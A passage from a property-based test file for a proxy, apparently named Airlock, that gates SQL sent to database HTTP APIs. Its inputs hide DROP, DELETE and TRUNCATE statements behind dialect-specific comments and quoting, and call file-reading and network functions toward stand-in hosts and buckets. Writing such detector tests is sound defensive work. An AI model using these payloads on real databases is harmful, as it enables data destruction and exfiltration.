      const sql = h(d(tbl));
      const { description, decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${sql}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
      if (!description.request.body.ambiguous_reasons?.some((r) => r.code === 'sql_dialects_disagree')) throw new Error(`${sql}: not marked ambiguous`);
    }),
    { numRuns: runs, ...seed },
  );
}

t.test('a statement hidden from one grammar by another grammar\'s syntax is held on an endpoint of unknown dialect', async (t) => {
  // PostgreSQL nests block comments and has dollar quoting; SQLite does neither (and runs each
  // statement as it compiles it).
  const hide = fc.constantFrom(
    (d: string) => `SELECT 1 /* /* */ ; ${d} ; -- */`,
    (d: string) => `SELECT 1 /* x /* y */ ; ${d} ; /* */ */`,
    (d: string) => `SELECT $a$ ; ${d} ; $a$`,
    (d: string) => `SELECT $$ ; ${d} ; $$`,
  );
  const destructive = fc.constantFrom((t2: string) => `DROP TABLE ${t2}`, (t2: string) => `DELETE FROM ${t2}`, (t2: string) => `UPDATE ${t2} SET a = 1`);
  await heldCriticalAndAmbiguous(hide, destructive);
  t.pass('checked');
});

t.test('a statement hidden from PostgreSQL and SQLite by MySQL\'s comments or quoting is held on an endpoint of unknown dialect', async (t) => {
  // MySQL runs `/*! … */` (MariaDB `/*M! … */`, TiDB `/*T! … */`) as code, reads `#` as a comment and `--1` as
  // minus minus one, and `"…"` as a string with backslash escapes; PostgreSQL and SQLite read each
  // of these the other way.
  const hide = fc.constantFrom(
    (d: string) => `SELECT 1 /*! ; ${d} */`,
    (d: string) => `SELECT 1 /*!50700 ; ${d} */`,
    (d: string) => `SELECT 1 /*M!100100 ; ${d} */`,
    // Sixteenth pass: TiDB's own executable comments.
    (d: string) => `SELECT 1 /*T! ; ${d} */`,
    (d: string) => `SELECT 1 /*T![auto_rand] ; ${d} */`,
    (d: string) => `SELECT 1 --1 ; ${d} ;`,
    (d: string) => `SELECT 1 # '\n; ${d} ; -- '`,
    (d: string) => `SELECT 1 # 2 /*\n; ${d} ; -- */`,
    (d: string) => `SELECT "\\""; ${d}; -- "`,
    (d: string) => `SELECT * FROM t WHERE a = "x\\" ; ${d} ; -- "`,
  );
  const destructive = fc.constantFrom((t2: string) => `DROP TABLE ${t2}`, (t2: string) => `DELETE FROM ${t2}`, (t2: string) => `UPDATE ${t2} SET a = 1`, (t2: string) => `TRUNCATE ${t2}`);
  await heldCriticalAndAmbiguous(hide, destructive);
  // Controls: a service of a known dialect reads its own grammar (a comment to PostgreSQL and
  // SQLite); MySQL-flavoured reads on an endpoint of unknown dialect stay ordinary (held as any
  // request to it is, not critical).
  for (const [url, key] of [[SUPABASE, 'query'], [D1, 'sql']] as const) {
    const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [key]: 'SELECT 1 /*! ; DROP TABLE users */' }) });
    t.equal(decision.action, 'allow', `a comment in ${url}'s own dialect`);
  }
  for (const sql of ['SELECT `id` FROM users -- the ids\nWHERE id = 1', 'SELECT "name" FROM users WHERE id = 1 # pick one', "SELECT * FROM t WHERE a = 'it\\'s' /* quoted */", 'SELECT 1 /*!40001 SQL_NO_CACHE */']) {
    const { description, decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
    t.not(decision.approval?.risk, 'critical', `${sql}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
  }
});

t.test('a statement hidden from PostgreSQL, SQLite and MySQL by Oracle\'s alternative quoting is held on an endpoint of unknown dialect', async (t) => {
  // Inside `q'!…!'` (also `Q'|…|'`, `nq'#…#'`, bracket pairs) a `'` is an ordinary character to
  // Oracle (and ORDS's REST-enabled SQL, which runs a script): the other grammars end the string
  // there and read the rest as one SELECT of operators and strings.
  const hide = fc.constantFrom(
    (d: string) => `SELECT q'! ' !' ; ${d} ; -- ' ! 'a'`,
    (d: string) => `SELECT Q'| ' |' ; ${d} ; -- ' | 'a'`,
    (d: string) => `SELECT nq'# ' #' ; ${d} ; -- ' # 'a'`,
    (d: string) => `SELECT NQ'! ' !' ; ${d} ; -- ' ! 'a'`,
  );
  const destructive = fc.constantFrom((t2: string) => `DROP TABLE ${t2}`, (t2: string) => `DELETE FROM ${t2}`, (t2: string) => `UPDATE ${t2} SET a = 1`, (t2: string) => `TRUNCATE TABLE ${t2}`);
  await heldCriticalAndAmbiguous(hide, destructive);
  // Controls: Oracle strings that hide nothing read as what they are (no longer unparsed), and a
  // `q` that is a column or inside a string starts no quote.
  for (const sql of ["SELECT q'[it's]' FROM dual", "SELECT nq'<a'b>' FROM dual", "SELECT 'q''[' || x FROM t WHERE q = 1"]) {
    const { description, decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
    t.not(decision.approval?.risk, 'critical', `${sql}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
  }
});

t.test('a statement hidden from the other grammars by Snowflake\'s // comments is held on an endpoint of unknown dialect', async (t) => {
  // `//` starts a comment to Snowflake (whose statements API runs several statements when asked);
  // PostgreSQL reads an operator followed by a string or identifier that swallows the statement.
  const hide = fc.constantFrom(
    (d: string) => `SELECT 1 // '\n; ${d} ; -- '`,
    (d: string) => `SELECT 1 // "\n; ${d} ; -- "`,
    (d: string) => `SELECT 1 //'\r\n; ${d} ; --'`,
  );
  const destructive = fc.constantFrom((t2: string) => `DROP TABLE ${t2}`, (t2: string) => `DELETE FROM ${t2}`, (t2: string) => `UPDATE ${t2} SET a = 1`);
  await heldCriticalAndAmbiguous(hide, destructive);
  for (const sql of ["SELECT 'https://example.com/a' AS u FROM t", 'SELECT a FROM t // the rows\nWHERE c = 1']) {
    const { description, decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
    t.not(decision.approval?.risk, 'critical', `${sql}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
  }
});

t.test('a statement hidden from the other grammars by BigQuery\'s triple-quoted strings is held on an endpoint of unknown dialect', async (t) => {
  // `'''…'''` ends only at three quotes (BigQuery's jobs API runs scripts); the other grammars read
  // `''` as a quote inside a string, and one SELECT of two strings.
  const hide = fc.constantFrom(
    (d: string) => `SELECT ''' x ' || ''' ; ${d} ; -- '`,
    (d: string) => `SELECT ''' x ' AS a, ''' ; ${d} ; # '`,
    (d: string) => `SELECT r''' x ' || ''' ; ${d} ; -- '`,
    // ZetaSQL ends `#` comments at a carriage return too; MySQL only at a line feed.
    (d: string) => `SELECT 1 #\r; ${d} ;`,
    (d: string) => `SELECT 1 # x ' \r; ${d} ; # '`,
  );
  const destructive = fc.constantFrom((t2: string) => `DROP TABLE ${t2}`, (t2: string) => `DELETE FROM ${t2} WHERE TRUE`, (t2: string) => `UPDATE ${t2} SET a = 1 WHERE TRUE`);
  await heldCriticalAndAmbiguous(hide, destructive);
  for (const sql of ["SELECT '''it's''' AS a FROM t", 'SELECT """a "quoted" word""" AS a FROM t', "SELECT r'\\d+' AS re FROM t", 'SELECT a FROM t # the rows\r\nWHERE c = 1']) {
    const { description, decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
    t.not(decision.approval?.risk, 'critical', `${sql}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
  }
});

t.test('a statement hidden from SQLite by PostgreSQL\'s nested comments, behind a construct PostgreSQL\'s grammar refuses, is held', async (t) => {
  // Ninth pass: `SELECT 1 /* /* */ -- */ , [x] ; DROP TABLE t` was a medium SELECT on an endpoint
  // of unknown dialect. PostgreSQL's grammar refuses `[x]`, so SQLite's reading (one SELECT: its
  // comment ends at the first `*/`, the rest of the line is a `--` comment) stood alone; DuckDB
  // (`[x]` a list) and SQL Server (`[x]` a name), whose comments nest as PostgreSQL's do, run the DROP.
  const comments = fc.constantFrom('/* /* */ -- */', '/* a /* b */ -- c */', '/*/* */ -- */', '/* /* /* */ */ -- */', '/* /* */ # */');
  const refused = fc.constantFrom((x: string) => `[${x}]`, () => '[1, 2]', () => "{'a': 1}", (x: string) => `[${x}].[${x}]`);
  const tails = fc.constantFrom((x: string) => `DROP TABLE ${x}`, (x: string) => `DELETE FROM ${x}`, (x: string) => `TRUNCATE TABLE ${x}`);
  await fc.assert(
    fc.asyncProperty(comments, refused, tails, ident, async (c, r, d, x) => {
      const sql = `SELECT 1 ${c} , ${r(x)} ; ${d(x)}`;
      const { description, decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
      if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${sql}: ${decision.action} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: Math.min(runs, 16), ...seed },
  );
  // Controls: SQLite's own names in brackets beside ordinary comments stay ordinary reads.
  for (const sql of ['SELECT * FROM [my table] -- comment\n WHERE [a b] = 1 /* c */', "SELECT [a] FROM t /* x */ WHERE b = 'it''s' -- done"]) {
    const { decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
    t.not(decision.approval?.risk, 'critical', sql);
  }
});

t.test('a call hidden from the other grammars by ClickHouse\'s own lexing is held on an endpoint of unknown dialect', async (t) => {
  // Ninth pass: ClickHouse reads ‘…’ as a string and “…” as an identifier, skips Unicode blanks
  // between words and takes `$tag$…$tag$` with any tag; PostgreSQL, SQLite and MySQL read those
  // characters as letters of a name. `SELECT ‘'’ FROM url(…) -- '` was an allowed read (a name cast
  // from a string), `SELECT a FROM url(…)` with U+2003 for the blanks a medium write (a call of a
  // function named `a FROM url`).
  const calls = fc.constantFrom(`url ( 'https://x.example/?d=1' , CSV , 'a String' )`, `file ( '/etc/passwd' , LineAsString )`, `s3 ( 'https://b.example/k' , 'CSV' )`);
  const blanks = fc.constantFrom('\u00a0', '\u2003', '\u2009', '\u200b', '\u3000', '\ufeff', '\u2028');
  const hides = fc.constantFrom(
    (call: string) => `SELECT \u2018'\u2019 FROM ${call.replaceAll("'", '\u2018').replaceAll('\u2018 ', '\u2019 ')} -- '`,
    (call: string) => `SELECT \u201c'\u201d FROM ${call.replaceAll("'", '$$')} -- '`,
    (call: string, b: string) => `SELECT a${b}FROM${b}${call}`,
    (call: string, b: string) => `SELECT count ( * )${b}FROM${b}${call}`,
  );
  const shapes = fc.constantFrom(
    (sql: string) => ({ method: 'GET', url: `https://${SQL_HOST}:8123/?query=${encodeURIComponent(sql)}`, type: 'text/plain', body: '' }),
    (sql: string) => ({ method: 'POST', url: `https://${SQL_HOST}:8123/`, type: 'text/plain', body: sql }),
    (sql: string) => ({ method: 'POST', url: GENERIC, type: 'application/json', body: JSON.stringify({ sql }) }),
  );
  await fc.assert(
    fc.asyncProperty(shapes, hides, calls, blanks, async (shape, hide, call, b) => {
      const r = shape(hide(call, b));
      const { description, decision } = await decide({ method: r.method, url: r.url, headers: [['Content-Type', r.type]], body: r.body });
      if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${r.method} ${r.url} ${r.body}: ${decision.action} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: Math.min(runs, 24), ...seed },
  );
  // Controls: typographic quotes and Unicode blanks inside strings, and a string in typographic quotes, stay reads.
  for (const sql of ["SELECT name FROM users WHERE note = 'caf\u00e9 \u2018quoted\u2019\u00a0x'", 'SELECT \u2018it\u2019 AS a FROM t']) {
    const { decision } = await decide({ method: 'GET', url: `https://${SQL_HOST}:8123/?query=${encodeURIComponent(sql)}`, body: '' });
    t.equal(decision.action, 'allow', sql);
  }
});

t.test('ClickHouse\'s HTTP interface: the SQL of the query parameter and the body is read', async (t) => {
  // A POST to `/` runs `?query=` followed by the body (or the body alone): no path tells one
  // statement from another, so without reading it an INSERT and a DROP TABLE were one operation.
  const places = fc.constantFrom(
    (sql: string) => ({ url: `https://${SQL_HOST}:8123/?query=${encodeURIComponent(sql)}`, body: '', headers: [] as Array<[string, string]> }),
    (sql: string) => ({ url: `https://${SQL_HOST}/`, body: sql, headers: [['X-ClickHouse-User', 'default'], ['X-ClickHouse-Key', 'k']] as Array<[string, string]> }),
    (sql: string) => ({ url: `https://${SQL_HOST}:8123/?database=analytics&query=${encodeURIComponent(sql.slice(0, 6))}`, body: sql.slice(6), headers: [] as Array<[string, string]> }),
  );
  const destructive = fc.constantFrom((t2: string) => `DROP TABLE ${t2}`, (t2: string) => `TRUNCATE TABLE ${t2}`, (t2: string) => `DELETE FROM ${t2} WHERE 1 = 1`, (t2: string) => `DROP TABLE ${t2} FORMAT CSV`);
  await fc.assert(
    fc.asyncProperty(places, destructive, ident, async (place, d, tbl) => {
      const p = place(d(tbl));
      const { description, decision } = await decide({ url: p.url, headers: [['Content-Type', 'text/plain'], ...p.headers], body: p.body });
      if (decision.approval?.risk !== 'critical') throw new Error(`${p.url} ${p.body}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: runs, ...seed },
  );
  // Controls: rows sent after `INSERT … FORMAT CSV`, and reads with a FORMAT, stay ordinary.
  for (const [url, body] of [[`https://${SQL_HOST}:8123/?query=${encodeURIComponent('INSERT INTO logs (a, b) FORMAT CSV')}`, '1,2\n3,4\n'], [`https://${SQL_HOST}:8123/`, 'SELECT a, count() AS n FROM logs GROUP BY a FORMAT JSONEachRow']] as Array<[string, string]>) {
    const { description, decision } = await decide({ url, headers: [['Content-Type', 'text/plain']], body });
    t.not(decision.approval?.risk, 'critical', `${url} ${body}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
    t.ok(description.sql?.parsed, 'read as SQL');
  }
});

t.test('SQL in the envelopes of libSQL/Turso (Hrana pipeline, statements) and Hasura (run_sql, bulk) is read', async (t) => {
  // The path says nothing (`/v2/pipeline`, `/v2/query`, `/`): without reading the envelope a grant
  // for one SELECT covered a DROP TABLE, and a DROP was a medium write.
  const envelopes = fc.constantFrom(
    (sql: string) => ({ path: '/v2/pipeline', body: { requests: [{ type: 'execute', stmt: { sql } }, { type: 'close' }] } }),
    (sql: string) => ({ path: '/v3/pipeline', body: { baton: null, requests: [{ type: 'batch', batch: { steps: [{ stmt: { sql: 'SELECT 1' } }, { stmt: { sql }, condition: { type: 'ok', step: 0 } }] } }] } }),
    (sql: string) => ({ path: '/v2/pipeline', body: { requests: [{ type: 'sequence', sql: `SELECT 1; ${sql}` }] } }),
    (sql: string) => ({ path: '/', body: { statements: ['SELECT 1', { q: sql, params: {} }] } }),
    (sql: string) => ({ path: '/v2/query', body: { type: 'run_sql', args: { source: 'default', sql } } }),
    (sql: string) => ({ path: '/v2/query', body: { type: 'bulk', args: [{ type: 'run_sql', args: { sql: 'SELECT 1' } }, { type: 'bulk', args: [{ type: 'run_sql', args: { sql, cascade: true } }] }] } }),
    // Tenth pass: Hrana over HTTP v1 (`/v1/execute`, `/v1/batch`) and v3's cursor were plain POSTs.
    (sql: string) => ({ path: '/v1/execute', body: { stmt: { sql, args: [] } } }),
    (sql: string) => ({ path: '/v1/batch', body: { batch: { steps: [{ stmt: { sql: 'SELECT 1' } }, { stmt: { sql } }] } } }),
    (sql: string) => ({ path: '/v3/cursor', body: { baton: null, batch: { steps: [{ stmt: { sql } }] } } }),
  );
  const destructive = fc.constantFrom((t2: string) => `DROP TABLE ${t2}`, (t2: string) => `DELETE FROM ${t2}`, (t2: string) => `UPDATE ${t2} SET a = 1`);
  await fc.assert(
    fc.asyncProperty(envelopes, destructive, ident, async (envelope, d, tbl) => {
      const e = envelope(d(tbl));
      const { description, decision } = await decide({ url: `https://${SQL_HOST}${e.path}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(e.body) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${e.path} ${JSON.stringify(e.body)}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: runs, ...seed },
  );
  // A statement named by a stored id is not in the request: fails closed. Reads stay ordinary.
  const stored = await decide({ url: `https://${SQL_HOST}/v2/pipeline`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ requests: [{ type: 'execute', stmt: { sql_id: 3 } }] }) });
  t.equal(stored.decision.approval?.risk, 'critical', 'sql_id: not in the request');
  const cursorStored = await decide({ url: `https://${SQL_HOST}/v3/cursor`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ baton: null, batch: { steps: [{ stmt: { sql_id: 3 } }] } }) });
  t.equal(cursorStored.decision.approval?.risk, 'critical', 'sql_id in a cursor: not in the request');
  // Hrana over protobuf, PlanetScale's Connect RPC as protobuf, MessagePack or CBOR to an SQL path:
  // the SQL is in a body Airlock does not decode, so it fails closed (a medium plain POST before).
  for (const [path, type] of [['/v3-protobuf/pipeline', 'application/x-protobuf'], ['/v3-protobuf/cursor', 'application/x-protobuf'], ['/psdb.v1alpha1.Database/Execute', 'application/proto'], ['/v1/sql', 'application/msgpack'], ['/v1/query', 'application/cbor']] as const) {
    const pb = await decide({ url: `https://${SQL_HOST}${path}`, headers: [['Content-Type', type]], body: Buffer.from([0x0a, 0x12, 0x12, 0x10, ...Buffer.from('DROP TABLE users')]) });
    t.equal(pb.decision.approval?.risk, 'critical', `${path} (${type}): SQL unread`);
  }
  const image = await decide({ url: `https://${SQL_HOST}/upload/raw`, headers: [['Content-Type', 'image/png']], body: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a]) });
  t.not(image.decision.approval?.risk, 'critical', 'an image upload to an SQL-looking path stays a write');
  const read = await decide({ url: `https://${SQL_HOST}/v2/pipeline`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ requests: [{ type: 'execute', stmt: { sql: 'SELECT * FROM users WHERE id = ?', args: [{ type: 'integer', value: '1' }] } }, { type: 'close' }] }) });
  t.not(read.decision.approval?.risk, 'critical', 'a read in a pipeline');
  t.ok(read.description.sql?.parsed, 'read as SQL');
});

t.test('reads stay reads in every dialect', async (t) => {
  const reads = fc.constantFrom(
    (t2: string, c: string) => `SELECT * FROM ${t2} WHERE ${c} = 1`,
    (t2: string, c: string) => `SELECT ${c} , count ( * ) FROM ${t2} GROUP BY ${c} ORDER BY 2 DESC LIMIT 10`,
    (t2: string, c: string, u: string) => `SELECT a.${c} FROM ${t2} a JOIN ${u} b ON b.${c} = a.${c} WHERE a.${c} > 5`,
    (t2: string, c: string, u: string) => `WITH ${u} AS ( SELECT ${c} FROM ${t2} ) SELECT * FROM ${u}`,
    (t2: string, c: string) => `SELECT lower ( ${c} ) FROM ${t2} WHERE ${c} LIKE 'a%'`,
  );
  const places = [...endpoints.sqlite, ...endpoints.postgresql];
  await fc.assert(
    fc.asyncProperty(reads, fc.constantFrom(...places), ident, ident, ident, noise, async (r, e, tbl, col, other, n) => {
      fc.pre(tbl !== col && tbl !== other && col !== other);
      const sql = render(r(tbl, col, other), n);
      const { description, decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql }) });
      if (decision.action !== 'allow') throw new Error(`${sql} on ${e.url}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: runs, ...seed },
  );
  // PostgreSQL's reads through the calls its parser writes for `SIMILAR TO` and `LIKE … ESCAPE`
  // (they were calls not proven read-only: writes); deletes that name the rows kept stay writes.
  for (const e of endpoints.postgresql) {
    for (const sql of ["SELECT * FROM users WHERE name SIMILAR TO 'a%'", "SELECT * FROM users WHERE name LIKE 'a!%%' ESCAPE '!'"]) {
      const { decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql }) });
      t.equal(decision.action, 'allow', `${sql} on ${e.url}`);
    }
    for (const sql of ['DELETE FROM sessions WHERE id > 100', "DELETE FROM users WHERE name ~ '^a'", "UPDATE users SET a = 1 WHERE name SIMILAR TO 'a%'"]) {
      const { decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql }) });
      t.equal(decision.approval?.risk, 'medium', `${sql} on ${e.url}: a write`);
    }
  }
});

t.test('a statement hidden in a string by backslash escapes (standard_conforming_strings off, MySQL) is held critical', async (t) => {
  // With standard_conforming_strings on, `'x\''` continues the string past `\''`; a PostgreSQL
  // session, role or server with it off (and MySQL-family servers) end the string there and run
  // what follows. PostgreSQL services and endpoints of unknown dialect must see both readings.
  const hide = fc.constantFrom(
    (x: string, d: string) => `SELECT '${x}\\''; ${d}; -- '`,
    (x: string, d: string) => `SELECT N'${x}\\'' AS a; ${d} -- '`,
    (x: string, d: string) => `SELECT * FROM t WHERE a = '${x}\\'' ; ${d} ; -- '`,
    (x: string, d: string) => `SELECT '${x}', '\\'' -- '\n; ${d}`,
    (x: string, d: string) => `SELECT '${x}\\\\', '\\''; ${d}; -- '`,
  );
  const destructive = fc.constantFrom((t2: string) => `DROP TABLE ${t2}`, (t2: string) => `DELETE FROM ${t2}`, (t2: string) => `TRUNCATE ${t2}`, (t2: string) => `UPDATE ${t2} SET a = 1`);
  const text = fc.stringMatching(/^[a-zé :/%_.]{0,8}$/);
  const places = [...endpoints.postgresql, { url: GENERIC, key: 'sql' }];
  await fc.assert(
    fc.asyncProperty(hide, destructive, ident, text, fc.constantFrom(...places), async (h, d, tbl, x, e) => {
      const sql = h(x, d(tbl));
      const { description, decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${sql} on ${e.url}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
      if (description.sql?.parsed && !description.sql.destructive) throw new Error(`${sql} on ${e.url}: not destructive ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: runs, ...seed },
  );
  // Controls: backslashes that end a string in the same place under both settings stay reads.
  for (const sql of [`SELECT 'C:\\' AS p`, `SELECT 'a\\b', 'c\\\\' FROM t`, `SELECT E'\\n' AS nl`, `SELECT * FROM t WHERE p LIKE 'a\\_%'`]) {
    for (const e of endpoints.postgresql) {
      const { description, decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql }) });
      t.equal(decision.action, 'allow', `${sql} on ${e.url} stays a read (${JSON.stringify(description.request.body.ambiguous_reasons ?? [])})`);
    }
  }
});

t.test('SQL in the REST shapes of Snowflake, Databricks, BigQuery and Trino is read as SQL', async (t) => {
  // Each takes SQL under its own field: a destructive statement there is held critical (and a
  // grant for one statement names it), not a plain POST to an allowed host.
  const H = `https://${SQL_HOST}`;
  const shapes: Array<[string, string, (sql: string) => string]> = [
    [`${H}/api/v2/statements`, 'application/json', (sql) => JSON.stringify({ statement: sql, warehouse: 'w', timeout: 60 })],
    [`${H}/api/2.0/sql/statements`, 'application/json', (sql) => JSON.stringify({ statement: sql, warehouse_id: 'w' })],
    [`${H}/bigquery/v2/projects/p/queries`, 'application/json', (sql) => JSON.stringify({ query: sql, useLegacySql: false })],
    [`${H}/bigquery/v2/projects/p/jobs`, 'application/json', (sql) => JSON.stringify({ configuration: { query: { query: sql, useLegacySql: false } } })],
    [`${H}/v1/statement`, 'text/plain', (sql) => sql],
    // Tenth pass: Snowflake's driver API and the AWS JSON protocol (`POST /` with X-Amz-Target) were plain POSTs.
    [`${H}/queries/v1/query-request?requestId=1`, 'application/json', (sql) => JSON.stringify({ sqlText: sql, asyncExec: false, sequenceId: 1 })],
    [`${H}/`, 'application/x-amz-json-1.1', (sql) => JSON.stringify({ Sql: sql, Database: 'dev', ClusterIdentifier: 'c' })],
    [`${H}/`, 'application/x-amz-json-1.1', (sql) => JSON.stringify({ Sqls: ['SELECT 1', sql], Database: 'dev', WorkgroupName: 'w' })],
    [`${H}/`, 'application/x-amz-json-1.1', (sql) => JSON.stringify({ QueryString: sql, WorkGroup: 'primary' })],
    [`${H}/`, 'application/x-amz-json-1.0', (sql) => JSON.stringify({ Statement: sql })],
    [`${H}/`, 'application/x-amz-json-1.0', (sql) => JSON.stringify({ TransactStatements: [{ Statement: 'SELECT 1' }, { Statement: sql }] })],
    [`${H}/api/1.2/commands/execute`, 'application/json', (sql) => JSON.stringify({ language: 'sql', clusterId: 'c', contextId: 'x', command: sql })],
  ];
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...shapes), fc.constantFrom((x: string) => `DROP TABLE ${x}`, (x: string) => `DELETE FROM ${x}`, (x: string) => `TRUNCATE TABLE ${x}`, (x: string) => `UPDATE ${x} SET a = 1`), ident, async ([url, type, body], d, tbl) => {
      const { description, decision } = await decide({ url, headers: [['Content-Type', type]], body: body(d(tbl)) });
      if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${d(tbl)} to ${url}: ${decision.action} ${decision.rule}`);
    }),
    { numRuns: runs, ...seed },
  );
  for (const [url, type, body] of shapes) {
    const { decision } = await decide({ url, headers: [['Content-Type', type]], body: body('SELECT name FROM users WHERE id = 1') });
    t.not(decision.approval?.risk, 'critical', `a read to ${url} stays ordinary`);
  }
  // Databricks' command API in another language runs code that may run any SQL: not read, so held at the worst.
  const python = await decide({ url: `${H}/api/1.2/commands/execute`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ language: 'python', clusterId: 'c', contextId: 'x', command: 'spark.sql("DROP TABLE users")' }) });
  t.equal(python.decision.approval?.risk, 'critical', 'a Python command');
  // Twelfth pass: a BigQuery job writes besides its SQL: a SELECT whose destinationTable is
  // replaced (WRITE_TRUNCATE), a copy job over a table, an extract job to any bucket were a
  // SELECT's medium write (a grant for a SELECT job covered them) or a plain POST.
  const jobs = `${H}/bigquery/v2/projects/p/jobs`;
  const users = { projectId: 'p', datasetId: 'd', tableId: 'users' };
  for (const [name, configuration] of [
    ['a SELECT replacing a table', { query: { query: 'SELECT 1 AS id', useLegacySql: false, destinationTable: users, writeDisposition: 'WRITE_TRUNCATE' } }],
    ['a copy job over a table', { copy: { sourceTable: { ...users, tableId: 'empty' }, destinationTable: users, writeDisposition: 'write_truncate' } }],
    ['an extract job to a bucket', { extract: { sourceTable: users, destinationUris: ['gs://elsewhere/users-*.csv'] } }],
  ] as Array<[string, unknown]>) {
    const { decision } = await decide({ url: jobs, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ configuration }) });
    t.equal(decision.approval?.risk, 'critical', `BigQuery: ${name}`);
  }
  const plain = await decide({ url: jobs, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ configuration: { query: { query: 'SELECT 1 AS id', useLegacySql: false } } }) });
  const append = await decide({ url: jobs, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ configuration: { query: { query: 'SELECT 1 AS id', useLegacySql: false, destinationTable: { ...users, tableId: 'report' }, writeDisposition: 'WRITE_APPEND' } } }) });
  t.equal(append.decision.approval?.risk, 'medium', 'BigQuery: rows appended to a table are a write');
  t.not(JSON.stringify(append.description.sql?.statements), JSON.stringify(plain.description.sql?.statements), 'and not the same statements as the SELECT alone (a grant for one does not cover the other)');
  // Thirteenth pass: Athena writes a query's results to the S3 location the request names; a
  // grant for a query into the user's results bucket covered the same query into any other.
  const athena = async (OutputLocation: string) => decide({ url: `${H}/`, headers: [['Content-Type', 'application/x-amz-json-1.1'], ['X-Amz-Target', 'AmazonAthena.StartQueryExecution']], body: JSON.stringify({ QueryString: 'SELECT * FROM users', QueryExecutionContext: { Database: 'app' }, ResultConfiguration: { OutputLocation } }) });
  const [mine, theirs] = [await athena('s3://my-results/athena/'), await athena('s3://elsewhere/loot/')];
  t.ok(mine.description.sql?.statements.some((st) => st.tables.includes('s3://my-results/athena/')), 'Athena: the results location is among the tables written');
  t.not(JSON.stringify(mine.description.sql?.statements), JSON.stringify(theirs.description.sql?.statements), 'Athena: a query into another bucket is not the same statements');
  t.not(theirs.decision.action, 'allow', 'and never a read');
});

t.test('the file, program and network functions of the other servers an endpoint of unknown dialect may be are destructive', async (t) => {
  // PostgreSQL's grammar parses any call, and SQLite (which has none of these) rejects the text,
  // so PostgreSQL's reading stood alone: a call it cannot prove read-only, a medium write that a
  // grant for another call of the same function covered.
  const calls = fc.constantFrom(
    (x: string) => `SELECT load_extension ( '/tmp/${x}.so' )`,
    (x: string) => `SELECT writefile ( '/tmp/${x}' , 'y' )`,
    (x: string) => `SELECT readfile ( '/etc/${x}' )`,
    (x: string) => `SELECT LOAD_FILE ( '/etc/${x}' )`,
    (x: string) => `SELECT UTL_HTTP.REQUEST ( 'http://x.example/' || ${x} ) FROM ${x}`,
    (x: string) => `SELECT dbms_xmlgen.getxml ( 'DELETE FROM ${x}' ) FROM dual`,
    (x: string) => `SELECT * FROM OPENROWSET ( 'SQLNCLI' , 'Server=x.example;' , 'SELECT 1' ) AS ${x}`,
    (x: string) => `SELECT * FROM url ( 'https://x.example/${x}' , CSV , 'a String' )`,
    (x: string) => `SELECT * FROM s3 ( 'https://b.s3.amazonaws.com/${x}.csv' )`,
    (x: string) => `SELECT * FROM remoteSecure ( 'x.example:9440' , db.${x} )`,
    (x: string) => `SELECT * FROM read_csv_auto ( 'https://x.example/${x}.csv' )`,
    (x: string) => `SELECT SYSTEM$SEND_EMAIL ( 'i' , 'a@x.example' , '${x}' , 'b' )`,
    (x: string) => `SELECT * FROM EXTERNAL_QUERY ( 'p.us.${x}' , 'SELECT 1' )`,
    // Eighth pass: ClickHouse's sqlite() and hive(), DuckDB's query() and sqlite_scan(), Snowflake's
    // query cancelling, SQL Server's file readers.
    (x: string) => `SELECT * FROM sqlite ( '/var/lib/${x}.db' , 'users' )`,
    (x: string) => `SELECT * FROM hive ( 'thrift://x.example:9083' , 'db' , '${x}' , 'a String' , 'a' )`,
    (x: string) => `SELECT * FROM query ( 'DELETE FROM ${x} RETURNING 1' )`,
